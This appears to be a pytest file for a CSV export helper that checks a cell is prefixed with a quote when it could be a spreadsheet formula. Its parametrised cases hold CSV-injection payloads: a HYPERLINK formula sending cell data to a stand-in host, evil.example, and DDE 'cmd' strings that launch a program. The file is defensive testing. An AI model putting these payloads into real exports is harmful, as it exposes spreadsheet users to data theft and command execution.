import csv
import io
from decimal import Decimal

import pytest

from core.csv import BOM, csv_chunks, csv_response, safe_cell, streaming_csv_response


def read(data: bytes) -> list[list[str]]:
    text = data.decode("utf-8")
    assert text.startswith(BOM)
    return list(csv.reader(io.StringIO(text[len(BOM) :])))


@pytest.mark.parametrize(
    "text",
    [
        '=HYPERLINK("http://evil.example/?"&A1,"Cliquez")',
        "=cmd|' /C calc'!A0",
        "+33 5 61 00 00 00",
        "-3+cmd|' /C calc'!A0",
        "-3",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "\t=1+1",
        "\r=1+1",
    ],
)
def test_it_neutralises_text_a_spreadsheet_would_run(text):
    assert safe_cell(text) == "'" + text


@pytest.mark.parametrize("number", [-3, -0.5, Decimal("-1.25"), 0, 42, 62.5])
def test_it_keeps_numbers_as_numbers(number):
    assert safe_cell(number) == number
    assert read(b"".join(csv_chunks(["n"], [[number]])))[1] == [str(number)]


@pytest.mark.parametrize(
    "text", ["Épicerie « Chez Zoé »", "a=b", "1+1", "", "https://example.org/?a=-1", " =1"]
)
def test_it_leaves_ordinary_text_alone(text):
    assert safe_cell(text) == text


def test_it_writes_none_as_an_empty_cell():
    assert safe_cell(None) == ""


def test_it_starts_with_a_bom_then_the_header_and_streams_in_chunks():
    rows = ([n, f"=ligne {n}"] for n in range(5))

    chunks = list(csv_chunks(["id", "nom"], rows, rows_per_chunk=2))

    assert len(chunks) == 3
    assert chunks[0].startswith(BOM.encode())
    assert not any(chunk.startswith(BOM.encode()) for chunk in chunks[1:])
    assert read(b"".join(chunks)) == [["id", "nom"]] + [[str(n), f"'=ligne {n}"] for n in range(5)]


def test_an_empty_table_is_a_bom_and_a_header():
    assert b"".join(csv_chunks(["id"], [])) == BOM.encode() + b"id\r\n"


def test_it_keeps_quotes_separators_and_newlines_in_cells():
    row = ['Dit "Chez Zoé", Foix', "Lun\nMar"]

    assert read(b"".join(csv_chunks(["a", "b"], [row])))[1] == row


def test_it_builds_plain_and_streamed_downloads():
    plain = csv_response(["nom"], [["=1+1"]], filename="a.csv")
    streamed = streaming_csv_response(["nom"], iter([["=1+1"]]), filename="b.csv")

    assert plain["Content-Type"] == streamed["Content-Type"] == "text/csv; charset=utf-8"
    assert plain["Content-Disposition"] == 'attachment; filename="a.csv"'
    assert streamed["Content-Disposition"] == 'attachment; filename="b.csv"'
    expected = [["nom"], ["'=1+1"]]
    assert read(plain.content) == read(b"".join(streamed.streaming_content)) == expected
